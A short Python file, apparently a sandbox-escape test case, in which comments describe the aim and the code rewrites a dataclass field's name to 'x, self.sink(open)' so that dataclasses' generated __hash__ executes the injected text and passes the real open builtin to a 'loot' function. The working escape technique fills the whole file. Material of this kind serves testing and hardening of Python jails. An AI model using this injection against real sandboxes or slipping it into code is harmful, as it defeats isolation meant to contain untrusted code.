# aim: inject source text by renaming a field before another class inherits it
# mechanism: Field.name is an ordinary attribute that can be written
# language: builtins
# reason: the library executes text unguarded, and with the real builtins
# jail: process
# plain: loot

import dataclasses


@dataclasses.dataclass
class Base:
    x: int = 0


dataclasses.fields(Base)[0].name = "x, self.sink(open)"


@dataclasses.dataclass(init=False, repr=False, eq=False, unsafe_hash=True, match_args=False)
class Record(Base):
    def sink(self, found):
        loot(found)
        return 0


hash(Record())
